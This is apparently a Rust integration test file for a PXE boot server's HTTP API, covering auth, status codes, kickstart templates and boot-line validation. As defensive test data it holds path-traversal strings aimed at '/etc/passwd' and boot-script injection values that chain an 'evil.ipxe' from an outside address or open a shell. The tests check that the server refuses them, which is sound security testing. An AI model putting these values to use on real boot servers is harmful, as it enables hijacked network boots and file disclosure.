//! Whole-process tests of the HTTP API: the original GoPXE README's calls
//! verbatim, status codes, auth, traversal, files and the life cycle.
// Test code may unwrap, panic and index (the restriction lints).
#![allow(unreachable_pub, clippy::restriction)]

mod common;

use common::{Gopxe, request, tempdir};
use std::process::Command;
use std::time::Duration;

const BOOTACTION: &str = r#"{
  "default": "linux",
  "label": "linux",
  "menu": "centos7",
  "kernel": "centos7/vmlinuz",
  "ksdevice": "link",
  "ip": "dhcp",
  "load_ramdisk": "1",
  "initrd":"centos7/initrd.img"
}"#;

const BASIC_RECORD: &str = r#"{
  "bootaction": "myfirstbootaction",
  "ksfile": "default",
  "os": "centos-7",
  "version": "7.5.1804",
  "hostname": "test-myvm.local",
  "uuid": "42330d5a-0ead-f7fa-4e3a-ae3bdcb08c69"
}"#;

const NETWORK_RECORD: &str = r#"{
  "bootaction": "vmtemplate",
  "ksfile": "default",
  "os": "centos-7",
  "version": "7.5.1804",
  "hostname": "test-myvm1.local",
  "ip": "10.1.20.50",
  "mask": "255.255.255.0",
  "ns1": "8.8.8.8",
  "ns2": "8.8.4.4",
  "gw": "10.1.20.1",
  "uuid": "42330d5a-0ead-f7fa-4e3a-ae3bdcb08c69"
}"#;

const UUID: &str = "42330d5a-0ead-f7fa-4e3a-ae3bdcb08c69";

/// The machine's own address in the life-cycle tests: a loopback address
/// the test client can send from, so its kickstart fetches count as the
/// machine's.
const MACHINE_IP: &str = "127.0.0.50";

/// [`NETWORK_RECORD`] at [`MACHINE_IP`].
fn local_record() -> String {
    NETWORK_RECORD
        .replace("10.1.20.50", MACHINE_IP)
        .replace("255.255.255.0", "255.0.0.0")
        .replace("10.1.20.1", "127.0.0.1")
}

/// Runs a README curl call, with only host and port adapted; returns (status, body).
fn curl(args: &[&str]) -> (u16, String) {
    let out = Command::new("curl")
        .args(["-sS", "-w", "\n%{http_code}"])
        .args(args)
        .output()
        .expect("curl is installed (the test script installs it)");
    let text = String::from_utf8_lossy(&out.stdout).into_owned();
    let (body, code) = text.rsplit_once('\n').unwrap_or(("", "0"));
    (code.trim().parse().unwrap_or(0), body.to_string())
}

#[test]
fn original_readme_calls_work_verbatim() {
    let dir = tempdir("readme");
    let g = Gopxe::start(&dir, &["--advertise-addr", "10.1.20.2"]);
    let host = format!("localhost:{}", g.port);
    let url = |p: &str| format!("http://{host}{p}");

    // 1. Create BootAction (verbatim but for the port).
    let (code, body) = curl(&[
        "-H",
        "Content-Type: application/json",
        "-d",
        BOOTACTION,
        "-X",
        "POST",
        &format!("{host}/bootaction/myfirstbootaction"),
    ]);
    assert_eq!(code, 201, "{body}");
    let v: serde_json::Value = serde_json::from_str(&body).unwrap();
    assert_eq!(v["kernel"], "centos7/vmlinuz");

    // 2. Create basic PXEBoot record.
    let (code, body) = curl(&[
        "-H",
        "Content-Type: application/json",
        "-d",
        BASIC_RECORD,
        &url("/pxeboot"),
    ]);
    assert_eq!(code, 201, "{body}");
    assert_eq!(
        serde_json::from_str::<serde_json::Value>(&body).unwrap()["id"],
        UUID
    );

    // 3. The record with network options names `vmtemplate`, which the
    // README never creates: create it the same way first.
    let (code, _) = curl(&[
        "-H",
        "Content-Type: application/json",
        "-d",
        BOOTACTION,
        "-X",
        "POST",
        &format!("{host}/bootaction/vmtemplate"),
    ]);
    assert_eq!(code, 201);
    let (code, body) = curl(&[
        "-H",
        "Content-Type: application/json",
        "-d",
        NETWORK_RECORD,
        &url("/pxeboot"),
    ]);
    assert_eq!(code, 201, "{body}");
    let v: serde_json::Value = serde_json::from_str(&body).unwrap();
    assert_eq!(v["hostname"], "test-myvm1.local");
    assert_eq!(v["gw"], "10.1.20.1");

    // "You can view all pxeboot at http://localhost:9090/pxelinux/".
    let list = g.get("/pxelinux/");
    assert_eq!(list.status, 200);
    assert!(list.text().contains(UUID));

    // Results: the README block with its bugs fixed (gw carries the
    // gateway, the ks= host is the advertised address and port).
    let cfg = g.get(&format!("/pxelinux/{UUID}"));
    assert_eq!(cfg.status, 200);
    let expected = format!(
        "default linux\n label linux\n MENU LABEL centos7\n KERNEL centos7/vmlinuz\n APPEND ksdevice=link ip=dhcp load_ramdisk=1 initrd=centos7/initrd.img ks=http://10.1.20.2:{}/kickstart/?name=default&os=centos-7&version=7.5.1804&fqdn=test-myvm1.local&ip=10.1.20.50&mask=255.255.255.0&gw=10.1.20.1&ns1=8.8.8.8&ns2=8.8.4.4\n",
        g.port
    );
    assert_eq!(cfg.text(), expected);
    // Only one record: the second POST replaced the first.
    assert_eq!(g.get("/pxeboot").json().as_array().unwrap().len(), 1);

    // The ks= URL renders the kickstart with the record's network.
    let ks_path = expected
        .split(&format!("{}", g.port))
        .nth(1)
        .unwrap()
        .trim_end();
    let ks = g.get(ks_path);
    assert_eq!(ks.status, 200);
    let text = ks.text();
    assert!(text.contains("--bootproto=static --ip=10.1.20.50 --netmask=255.255.255.0 --gateway=10.1.20.1 --nameserver=8.8.8.8,8.8.4.4 --hostname=test-myvm1.local"), "{text}");
    assert!(text.contains(&format!("/pxeboot/{UUID}/done")), "{text}");
    assert!(!text.contains("&amp;") && !text.contains("&lt;"));
}

fn setup(g: &Gopxe) {
    assert_eq!(g.post("/bootaction/vmtemplate", BOOTACTION).status, 201);
    assert_eq!(g.post("/pxeboot", NETWORK_RECORD).status, 201);
}

#[test]
fn status_codes() {
    let dir = tempdir("codes");
    let g = Gopxe::start(&dir, &[]);
    setup(&g);
    // 200 list / get.
    assert_eq!(g.get("/bootaction").status, 200);
    assert_eq!(g.get("/bootaction/vmtemplate").json()["menu"], "centos7");
    assert_eq!(
        g.get(&format!("/pxeboot/{UUID}")).json()["state"],
        "install"
    );
    // Any spelling of the id finds the record.
    assert_eq!(
        g.get(&format!("/pxeboot/{}", UUID.to_uppercase())).status,
        200
    );
    // 400 naming the field.
    let r = g.post(
        "/pxeboot",
        &NETWORK_RECORD.replace("test-myvm1.local", "bad_host!"),
    );
    assert_eq!(r.status, 400);
    assert_eq!(r.json()["field"], "hostname");
    let r = g.post(
        "/pxeboot",
        &NETWORK_RECORD.replace("10.1.20.50", "10.1.20.500"),
    );
    assert_eq!((r.status, r.json()["field"].as_str()), (400, Some("ip")));
    let r = g.post(
        "/bootaction/x",
        &BOOTACTION.replace("centos7/vmlinuz", "../../vmlinuz"),
    );
    assert_eq!(
        (r.status, r.json()["field"].as_str()),
        (400, Some("kernel"))
    );
    let r = g.post(
        "/pxeboot",
        r#"{"bootaction": "vmtemplate", "uuid": "x", "colour": "red"}"#,
    );
    assert_eq!(
        (r.status, r.json()["field"].as_str()),
        (400, Some("colour"))
    );
    // Malformed JSON and empty bodies: 400.
    assert_eq!(g.post("/pxeboot", "{\"bootaction\": ").status, 400);
    assert_eq!(g.post("/pxeboot", "").status, 400);
    assert_eq!(g.post("/pxeboot", "[1,2]").status, 400);
    // 404.
    assert_eq!(g.get("/bootaction/none").status, 404);
    assert_eq!(g.get("/pxeboot/aa:bb:cc:dd:ee:ff").status, 404);
    assert_eq!(g.delete("/pxeboot/aa:bb:cc:dd:ee:ff").status, 404);
    assert_eq!(g.get("/no/such/thing").status, 404);
    // 409: a boot action still in use.
    let r = g.delete("/bootaction/vmtemplate");
    assert_eq!(r.status, 409);
    assert!(r.text().contains(UUID));
    // 422: a record naming an unknown boot action or template.
    let r = g.post("/pxeboot", &NETWORK_RECORD.replace("vmtemplate", "nosuch"));
    assert_eq!(
        (r.status, r.json()["field"].as_str()),
        (422, Some("bootaction"))
    );
    let r = g.post(
        "/pxeboot",
        &NETWORK_RECORD.replace("\"default\"", "\"mine\""),
    );
    assert_eq!(
        (r.status, r.json()["field"].as_str()),
        (422, Some("ksfile"))
    );
    // 413: too large, answered without reading it all.
    let big = format!("{{\"bootaction\": \"{}\"}}", "a".repeat(200_000));
    assert_eq!(g.post("/pxeboot", &big).status, 413);
    // A body larger than the request buffer but under the limit still works.
    let padded = NETWORK_RECORD.replacen('{', &format!("{{{}", " ".repeat(20_000)), 1);
    assert_eq!(g.post("/pxeboot", &padded).status, 201);
    // PUT replaces (200) or creates (201); ids must agree.
    assert_eq!(
        g.put(&format!("/pxeboot/{UUID}"), NETWORK_RECORD).status,
        200
    );
    let mac_record = NETWORK_RECORD.replace(
        &format!("\"uuid\": \"{UUID}\""),
        "\"mac\": \"52:54:00:12:34:56\"",
    );
    assert_eq!(
        g.put("/pxeboot/01-52-54-00-12-34-56", &mac_record).status,
        201
    );
    // Two records naming one static address: accepted, and said.
    let shared = g.get("/pxeboot/01-52-54-00-12-34-56").json();
    let warning = shared["warnings"][0].as_str().unwrap_or_default();
    assert!(
        warning.contains("10.1.20.50") && warning.contains(&UUID.to_lowercase()),
        "{shared}"
    );
    // The listing says it of both records.
    let list = g.get("/pxeboot").json();
    let warned = list
        .as_array()
        .unwrap()
        .iter()
        .filter(|m| {
            m["warnings"][0]
                .as_str()
                .is_some_and(|w| w.contains("10.1.20.50"))
        })
        .count();
    assert_eq!(warned, 2, "{list}");
    // The log is written by its own thread: wait for the line, bounded.
    assert!(common::wait_until(Duration::from_secs(5), || g
        .log_text()
        .contains("is also the static address of")));
    assert_eq!(g.put("/pxeboot/52-54-00-12-34-57", &mac_record).status, 400);
    assert_eq!(g.put("/bootaction/vmtemplate", BOOTACTION).status, 200);
    // 405 with Allow.
    let r = request(g.port, "PATCH", "/bootaction/vmtemplate", &[], b"");
    assert_eq!(r.status, 405);
    assert!(r.header("allow").is_some());
    // 204 on delete, then the action can go.
    assert_eq!(g.delete(&format!("/pxeboot/{UUID}")).status, 204);
    assert_eq!(g.delete("/pxeboot/52:54:00:12:34:56").status, 204);
    assert_eq!(g.delete("/bootaction/vmtemplate").status, 204);
    assert_eq!(g.get("/bootaction/vmtemplate").status, 404);
    // No redirects anywhere: the trailing-slash forms answer directly.
    for p in [
        "/pxelinux",
        "/pxelinux/",
        "/pxeboot",
        "/pxeboot/",
        "/bootaction/",
        "/health",
    ] {
        let s = g.get(p).status;
        assert_eq!(s, 200, "{p}");
    }
    assert_eq!(g.get("/health").json()["status"], "ok");
}

#[test]
fn token_protects_writes() {
    let dir = tempdir("auth");
    let g = Gopxe::start(&dir, &["--api-token", "s3cret-token"]);
    let r = g.post("/bootaction/vmtemplate", BOOTACTION);
    assert_eq!(r.status, 401);
    assert!(r.header("www-authenticate").is_some());
    let wrong = [
        ("Authorization", "Bearer nope-nope-nope"),
        ("Content-Type", "application/json"),
    ];
    assert_eq!(
        request(
            g.port,
            "POST",
            "/bootaction/vmtemplate",
            &wrong,
            BOOTACTION.as_bytes()
        )
        .status,
        401
    );
    let right = [
        ("Authorization", "bearer s3cret-token"),
        ("Content-Type", "application/json"),
    ];
    assert_eq!(
        request(
            g.port,
            "POST",
            "/bootaction/vmtemplate",
            &right,
            BOOTACTION.as_bytes()
        )
        .status,
        201
    );
    // Reads stay open; nothing was written by the refused calls.
    assert_eq!(g.get("/bootaction").json().as_array().unwrap().len(), 1);
    assert_eq!(g.delete("/bootaction/vmtemplate").status, 401);
}

#[test]
fn traversal_is_refused_and_nothing_leaves_the_roots() {
    let dir = tempdir("traversal");
    let g = Gopxe::start(&dir, &[]);
    std::fs::write(dir.join("secret.txt"), "top secret").unwrap();
    std::fs::write(dir.join("images/ok.txt"), "fine").unwrap();
    std::os::unix::fs::symlink(dir.join("secret.txt"), dir.join("images/link")).unwrap();
    assert_eq!(g.post("/bootaction/vmtemplate", BOOTACTION).status, 201);
    // The original wrote `pxelinux.cfg/<uuid>` wherever the uuid pointed.
    for id in [
        "../../etc/x",
        "../secret",
        "/etc/passwd",
        "42330d5a-0ead-f7fa-4e3a-ae3bdcb08c69/../../x",
    ] {
        let body = NETWORK_RECORD.replace(UUID, id);
        let r = g.post("/pxeboot", &body);
        assert_eq!(
            (r.status, r.json()["field"].as_str()),
            (400, Some("uuid")),
            "{id}"
        );
    }
    assert!(!dir.join("etc").exists() && !std::path::Path::new("/etc/x").exists());
    assert_eq!(g.get("/images/ok.txt").text(), "fine");
    for p in [
        "/images/../secret.txt",
        "/images/%2e%2e/secret.txt",
        "/images/..%2fsecret.txt",
        "/images/link",
        "/images/%2fetc%2fpasswd",
        "/images/ok.txt%00",
        "/images/..%5csecret.txt",
        "/localrepo/../secret.txt",
        "/pxelinux/..%2f..%2fsecret.txt",
        "/kickstart/..%2fsecret.txt",
        "/kstemplate/..%2fsecret",
    ] {
        let r = g.get(p);
        assert!(matches!(r.status, 400 | 403 | 404), "{p}: {}", r.status);
        assert!(!r.text().contains("top secret"), "{p} leaked");
    }
    // Only the data dir was written.
    let mut written: Vec<String> = walk(&dir)
        .into_iter()
        .filter(|p| !p.contains("/data/") && !p.ends_with(".log"))
        .collect();
    written.sort();
    assert_eq!(
        written,
        vec![
            dir.join("images/link").display().to_string(),
            dir.join("images/ok.txt").display().to_string(),
            dir.join("secret.txt").display().to_string()
        ]
    );
}

fn walk(d: &std::path::Path) -> Vec<String> {
    let mut out = Vec::new();
    for e in std::fs::read_dir(d).unwrap().flatten() {
        let p = e.path();
        if e.file_type().unwrap().is_dir() {
            out.extend(walk(&p));
        } else {
            out.push(p.display().to_string());
        }
    }
    out
}

#[test]
fn images_and_localrepo_are_streamed() {
    let dir = tempdir("files");
    let repo = dir.join("iso");
    std::fs::create_dir_all(repo.join("Packages")).unwrap();
    std::fs::write(repo.join("Packages/a.rpm"), b"rpm bytes").unwrap();
    std::fs::create_dir_all(dir.join("images/centos7")).unwrap();
    let big: Vec<u8> = (0..5_000_000u32)
        .map(|i| (i.wrapping_mul(2_654_435_761) >> 24) as u8)
        .collect();
    std::fs::write(dir.join("images/centos7/vmlinuz"), &big).unwrap();
    let g = Gopxe::start(&dir, &["--localrepo", repo.to_str().unwrap()]);
    let r = g.get("/images/centos7/vmlinuz");
    assert_eq!(r.status, 200);
    assert_eq!(r.body.len(), big.len());
    assert!(r.body == big, "downloaded bytes differ");
    assert_eq!(g.get("/localrepo/Packages/a.rpm").text(), "rpm bytes");
    // A directory is not a file to serve.
    assert_eq!(g.get("/images/centos7").status, 403);
    assert_eq!(g.get("/images/missing").status, 404);
}

#[test]
fn kickstarts_templates_and_life_cycle() {
    let dir = tempdir("life");
    let g = Gopxe::start(&dir, &[]);
    assert_eq!(g.post("/bootaction/vmtemplate", BOOTACTION).status, 201);
    assert_eq!(g.post("/pxeboot", &local_record()).status, 201);
    // Short URL by id. The admin's own look (loopback, no token
    // configured) is a preview: the key, and no change.
    let ks = g.get(&format!("/kickstart/{UUID}"));
    assert_eq!(ks.status, 200);
    assert!(ks.text().contains("--hostname=test-myvm1.local"));
    assert!(ks.text().contains("/done?key="), "{}", ks.text());
    assert_eq!(
        g.get(&format!("/pxeboot/{UUID}")).json()["state"],
        "install"
    );
    // Fetched by the machine from its own address, it starts the install.
    let ks = g.get_from(MACHINE_IP, &format!("/kickstart/{UUID}"));
    assert_eq!(ks.status, 200);
    assert_eq!(
        g.get(&format!("/pxeboot/{UUID}")).json()["state"],
        "installing"
    );
    // Bad query values are refused, naming the field.
    let r = g.get("/kickstart/?name=default&fqdn=a%0a%25post");
    assert_eq!((r.status, r.json()["field"].as_str()), (400, Some("fqdn")));
    // Admin templates: a broken one is refused at upload.
    let text = [("Content-Type", "text/plain")];
    let r = request(g.port, "PUT", "/kstemplate/mine", &text, b"{% if %}");
    assert_eq!(r.status, 400);
    assert!(r.text().contains("template error"));
    let r = request(
        g.port,
        "PUT",
        "/kstemplate/mine",
        &text,
        b"{{ no_such_variable }}",
    );
    assert_eq!(r.status, 400);
    let tmpl = b"# mine for {{ fqdn }}\nnetwork --ip={{ ip }}\n{% if done_url %}curl -X POST {{ done_url }}{% endif %}\n";
    assert_eq!(
        request(g.port, "PUT", "/kstemplate/mine", &text, tmpl).status,
        201
    );
    assert_eq!(g.get("/kstemplate").json()[0], "mine");
    let r = g.post(
        "/pxeboot",
        &local_record().replace("\"default\"", "\"mine\""),
    );
    assert_eq!(r.status, 201);
    let ks = g.get_from(MACHINE_IP, &format!("/kickstart/{UUID}")).text();
    assert!(
        ks.starts_with(&format!(
            "# mine for test-myvm1.local\nnetwork --ip={MACHINE_IP}\ncurl -X POST http://"
        )),
        "{ks}"
    );
    assert_eq!(g.delete("/kstemplate/mine").status, 409);

    // done -> installed -> local boot; reinstall flips it back.
    let r = g.post(&format!("/pxeboot/{UUID}/done"), "");
    assert_eq!(r.status, 200);
    assert_eq!(r.json()["state"], "installed");
    let cfg = g.get(&format!("/pxelinux/{UUID}")).text();
    assert!(cfg.contains("LOCALBOOT 0"), "{cfg}");
    let swapped = "5a0d3342-ad0e-faf7-4e3a-ae3bdcb08c69";
    assert_eq!(
        g.get(&format!("/pxelinux/{swapped}")).text(),
        cfg,
        "SMBIOS byte order finds it too"
    );
    assert_eq!(
        g.post(&format!("/pxeboot/{UUID}/reinstall"), "").json()["state"],
        "install"
    );
    assert!(
        g.get(&format!("/pxelinux/{UUID}"))
            .text()
            .contains("KERNEL centos7/vmlinuz")
    );
    let events = g.get(&format!("/pxeboot/{UUID}/events")).json();
    let kinds: Vec<&str> = events
        .as_array()
        .unwrap()
        .iter()
        .map(|e| e["kind"].as_str().unwrap())
        .collect();
    for k in ["created", "kickstart", "updated", "done", "reinstall"] {
        assert!(kinds.contains(&k), "{k} missing from {kinds:?}");
    }
    // iPXE script for the machine, by SMBIOS UUID.
    let s = g
        .get(&format!("/boot.ipxe?uuid={swapped}&mac=52:54:00:00:00:01"))
        .text();
    assert!(
        s.starts_with("#!ipxe\n") && s.contains("/images/centos7/vmlinuz"),
        "{s}"
    );
    let unknown = g.get("/boot.ipxe?mac=52:54:00:00:00:02").text();
    assert!(unknown.contains("exit"));
    // State survives a restart.
    drop(g);
    let g = Gopxe::start(&dir, &[]);
    assert_eq!(
        g.get(&format!("/pxeboot/{UUID}")).json()["state"],
        "install"
    );
    assert_eq!(g.get("/kstemplate/mine").text().as_bytes(), tmpl);
}

#[test]
fn bad_config_names_file_key_and_problem() {
    let dir = tempdir("config");
    let cfg = dir.join("gopxe.toml");
    std::fs::write(
        &cfg,
        "http_listen = \"127.0.0.1:0\"\nadvertise_addr = \"localhost\"\n",
    )
    .unwrap();
    let out = Command::new(common::bin())
        .args(["--config", cfg.to_str().unwrap()])
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(2));
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(
        err.contains("gopxe.toml")
            && err.contains("advertise_addr")
            && err.contains("not an IPv4 address"),
        "{err}"
    );
    std::fs::write(&cfg, "htp_listen = \"x\"\n").unwrap();
    let out = Command::new(common::bin())
        .args(["check-config", "--config", cfg.to_str().unwrap()])
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&out.stderr).contains("htp_listen"));
    let out = Command::new(common::bin())
        .args(["--dhcp-mode", "sometimes"])
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&out.stderr).contains("--dhcp-mode"));
    // The sample config is valid.
    let sample = concat!(env!("CARGO_MANIFEST_DIR"), "/conf/gopxe.toml");
    let out = Command::new(common::bin())
        .args(["check-config", "--config", sample])
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
}

#[test]
fn metrics_count_requests_and_machines() {
    let dir = tempdir("metrics");
    let g = Gopxe::start(&dir, &[]);
    setup(&g);
    assert_eq!(g.get("/bootaction/none").status, 404);
    let text = g.get("/metrics").text();
    let sample = |name: &str| -> f64 {
        text.lines()
            .find(|l| l.starts_with(name))
            .and_then(|l| l.rsplit_once(' '))
            .and_then(|(_, v)| v.parse().ok())
            .unwrap_or_else(|| panic!("{name} missing from\n{text}"))
    };
    assert_eq!(
        sample("gopxe_http_requests_total{route=\"/pxeboot\",status=\"2xx\"}"),
        1.0
    );
    assert_eq!(
        sample("gopxe_http_requests_total{route=\"/bootaction/{name}\",status=\"2xx\"}"),
        1.0
    );
    assert_eq!(
        sample("gopxe_http_requests_total{route=\"/bootaction/{name}\",status=\"4xx\"}"),
        1.0
    );
    assert_eq!(sample("gopxe_machines{state=\"install\"}"), 1.0);
    assert_eq!(sample("gopxe_build_info{"), 1.0);
    for line in text
        .lines()
        .filter(|l| !l.is_empty() && !l.starts_with('#'))
    {
        let (series, value) = line.rsplit_once(' ').unwrap();
        assert!(
            value.parse::<f64>().is_ok() && series.starts_with("gopxe_"),
            "{line}"
        );
    }
}

/// `BOOTACTION` with `field` set to `value`.
fn bootaction_with(field: &str, value: &str) -> String {
    let mut v: serde_json::Value = serde_json::from_str(BOOTACTION).unwrap();
    v[field] = value.into();
    v.to_string()
}

/// Kernel arguments of `n` bytes: words of 250 characters.
fn long_append(n: usize) -> String {
    let word = "a".repeat(249);
    let mut s = String::new();
    while s.len() + 250 <= n {
        s.push_str(&word);
        s.push(' ');
    }
    s.push_str(&"b".repeat(n - s.len()));
    s
}

#[test]
fn boot_lines_refuse_script_breakers_and_overlong_kernel_lines() {
    let dir = tempdir("bootline");
    let g = Gopxe::start(&dir, &["--advertise-addr", "10.1.20.2"]);

    // Boot-script metacharacters from the admin: 400 naming the field and
    // the sequence, and nothing stored.
    for (field, value, seq) in [
        (
            "menu",
            "x ; chain http://198.51.100.9/evil.ipxe ; echo",
            "\";\"",
        ),
        ("append", "console=ttyS0 || shell", "\"||\""),
        (
            "append",
            "console=ttyS0 # ks=http://198.51.100.9/ks",
            "\"#\"",
        ),
        ("append", "ip=${net0/ip}", "\"${\""),
        ("ip", "dhcp&&shell", "\"&&\""),
        // Tokens allow letters, digits and `._-` only, and say so.
        ("label", "linux;x", "';'"),
    ] {
        let r = g.post("/bootaction/evil", &bootaction_with(field, value));
        let v = r.json();
        assert_eq!((r.status, v["field"].as_str()), (400, Some(field)), "{v}");
        let error = v["error"].as_str().unwrap();
        assert!(error.contains(seq), "{error}");
    }
    // 15 KB of arguments: refused, not cut.
    let r = g.post(
        "/bootaction/evil",
        &bootaction_with("append", &long_append(15 * 1024)),
    );
    assert_eq!(
        (r.status, r.json()["field"].as_str()),
        (400, Some("append"))
    );
    assert_eq!(g.get("/bootaction/evil").status, 404);

    // An action whose arguments leave room for a short hostname only.
    let action = bootaction_with("append", &long_append(1650));
    assert_eq!(g.post("/bootaction/vmtemplate", &action).status, 201);
    assert_eq!(g.post("/pxeboot", NETWORK_RECORD).status, 201);
    let cfg = g.get(&format!("/pxelinux/{UUID}")).text();
    assert!(cfg.trim_end().ends_with("&ns2=8.8.4.4"), "{cfg}");
    // A 253-byte hostname would push `ks=` past the kernel's 2048 bytes:
    // refused naming the hostname, the stored record unchanged ...
    let label = "h".repeat(63);
    let long_host = format!("{label}.{label}.{label}.{}", "h".repeat(61));
    assert_eq!(long_host.len(), 253);
    let r = g.post(
        "/pxeboot",
        &NETWORK_RECORD.replace("test-myvm1.local", &long_host),
    );
    let v = r.json();
    assert_eq!(
        (r.status, v["field"].as_str()),
        (400, Some("hostname")),
        "{v}"
    );
    let error = v["error"].as_str().unwrap();
    assert!(
        error.contains("the kernel command line") && error.contains("at most 2047"),
        "{error}"
    );
    assert_eq!(
        g.get(&format!("/pxeboot/{UUID}")).json()["hostname"],
        "test-myvm1.local"
    );
    assert_eq!(g.get(&format!("/pxelinux/{UUID}")).text(), cfg);
    // ... and a new machine with it is not stored at all.
    let other = NETWORK_RECORD
        .replace("test-myvm1.local", &long_host)
        .replace(
            &format!("\"uuid\": \"{UUID}\""),
            "\"mac\": \"52:54:00:12:34:56\"",
        );
    let r = g.post("/pxeboot", &other);
    assert_eq!(
        (r.status, r.json()["field"].as_str()),
        (400, Some("hostname"))
    );
    assert_eq!(g.get("/pxeboot/52:54:00:12:34:56").status, 404);
    // Lengthening the action past the limit for the stored machine is
    // refused naming `append` and the machine; the action is unchanged.
    let r = g.post(
        "/bootaction/vmtemplate",
        &bootaction_with("append", &long_append(1900)),
    );
    let v = r.json();
    assert_eq!(
        (r.status, v["field"].as_str()),
        (400, Some("append")),
        "{v}"
    );
    assert!(v["error"].as_str().unwrap().contains(UUID), "{v}");
    assert_eq!(
        g.get("/bootaction/vmtemplate").json()["append"]
            .as_str()
            .map(str::len),
        Some(1650)
    );
    assert_eq!(g.get(&format!("/pxelinux/{UUID}")).text(), cfg);

    // What the admin may write never ends an iPXE command, starts a
    // comment or expands a setting; gopxe's own `ds=nocloud-net;s=...`
    // stays inside one word.
    let ubuntu = r#"{"menu": "Ubuntu | autoinstall $5", "kernel": "ubuntu/vmlinuz",
        "initrd": "ubuntu/initrd", "installer": "autoinstall",
        "append": "--- console=ttyS0,115200n8 a|b x&y"}"#;
    assert_eq!(g.post("/bootaction/ubuntu", ubuntu).status, 201);
    let record = NETWORK_RECORD.replace("vmtemplate", "ubuntu").replace(
        &format!("\"uuid\": \"{UUID}\""),
        "\"mac\": \"52:54:00:12:34:57\"",
    );
    assert_eq!(g.post("/pxeboot", &record).status, 201);
    for query in [
        format!("uuid={UUID}&mac=52:54:00:00:00:01"),
        "mac=52:54:00:12:34:57".to_string(),
    ] {
        let script = g.get(&format!("/boot.ipxe?{query}")).text();
        assert!(script.starts_with("#!ipxe\n"), "{script}");
        assert!(!script.contains("${"), "{script}");
        for word in script.lines().skip(1).flat_map(str::split_whitespace) {
            assert!(
                !matches!(word, ";" | "&&" | "||") && !word.starts_with('#'),
                "{word:?} in {script}"
            );
        }
        assert!(script.contains("\nkernel http://10.1.20.2:"), "{script}");
    }
    let script = g.get("/boot.ipxe?mac=52:54:00:12:34:57").text();
    assert!(
        script.contains(" ds=nocloud-net;s=http://10.1.20.2:"),
        "{script}"
    );
    assert!(
        script.contains("echo gopxe: Ubuntu | autoinstall $5\n"),
        "{script}"
    );
}

/// A new appliance with an empty images tree says so at start-up, in
/// `/health`, on the status page and in `check-config`; once the files a
/// boot action's loader needs are there, the warnings about them go.
#[test]
fn missing_boot_loaders_are_named_until_they_are_there() {
    let dir = tempdir("loaders");
    let g = Gopxe::start(&dir, &[]);
    let log = g.log_text();
    assert!(
        log.contains("WARN") && log.contains("is empty or missing") && log.contains("pxelinux.0"),
        "{log}"
    );
    let warnings = |g: &Gopxe| -> Vec<String> {
        let h = g.get("/health").json();
        assert_eq!(h["status"], "ok", "{h}");
        h["warnings"]
            .as_array()
            .unwrap()
            .iter()
            .map(|w| w.as_str().unwrap().to_string())
            .collect()
    };
    let w = warnings(&g);
    assert_eq!(w.len(), 1, "{w:?}");
    assert!(w[0].contains("is empty") && w[0].contains("scripts/fetch-images.sh"));
    assert!(g.get("/").text().contains("is empty or missing"));
    // An iPXE boot action: its two loaders, and the arm64 one, are missing.
    let images = dir.join("images");
    std::fs::write(images.join("README"), "loaders go here\n").unwrap();
    let r = g.post(
        "/bootaction/ipxe",
        r#"{"kernel":"k/vmlinuz","initrd":"k/initrd","loader":"ipxe"}"#,
    );
    assert_eq!(r.status, 201, "{}", r.text());
    let w = warnings(&g);
    for file in ["undionly.kpxe", "ipxe.efi", "ipxe-arm64.efi"] {
        assert!(w.iter().any(|l| l.contains(file)), "{file}: {w:?}");
    }
    assert!(!w.iter().any(|l| l.contains("pxelinux.0")), "{w:?}");
    for file in ["undionly.kpxe", "ipxe.efi", "ipxe-arm64.efi"] {
        std::fs::write(images.join(file), b"loader").unwrap();
    }
    assert_eq!(warnings(&g), Vec::<String>::new());
    assert!(!g.get("/").text().contains("missing boot loader"));
    // check-config: a summary, and the default family's missing files.
    let out = Command::new(common::bin())
        .args(["check-config", "--images"])
        .arg(&images)
        .output()
        .unwrap();
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(out.status.success(), "{text}");
    assert!(
        text.contains("configuration is valid")
            && text.contains("dhcp          off")
            && text.contains("warning: missing boot loader pxelinux.0 (BIOS"),
        "{text}"
    );
    assert!(!text.contains("Config {"), "no Debug dump: {text}");
}

/// A start that cannot happen says why, naming the setting, and exits 1:
/// a port someone else holds, a data dir another gopxe has open.
#[test]
fn start_up_failures_name_the_setting() {
    let dir = tempdir("start-fail");
    let taken = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let addr = taken.local_addr().unwrap().to_string();
    let run = |extra: &[&str]| {
        let out = Command::new(common::bin())
            .args(["serve", "--tftp-listen", "off", "--data-dir"])
            .arg(dir.join("data"))
            .args(extra)
            .output()
            .unwrap();
        (
            out.status.code(),
            String::from_utf8_lossy(&out.stderr).into_owned(),
        )
    };
    let (code, err) = run(&["--http-listen", &addr]);
    assert_eq!(code, Some(1), "{err}");
    assert!(
        err.contains(&format!("gopxe: cannot listen on {addr} (http_listen)")),
        "{err}"
    );
    // The data dir of a running gopxe is locked.
    let g = Gopxe::start(&dir, &[]);
    let (code, err) = run(&["--http-listen", "127.0.0.1:0"]);
    assert_eq!(code, Some(1), "{err}");
    assert!(err.contains("gopxe: cannot open the data dir"), "{err}");
    drop(g);
}
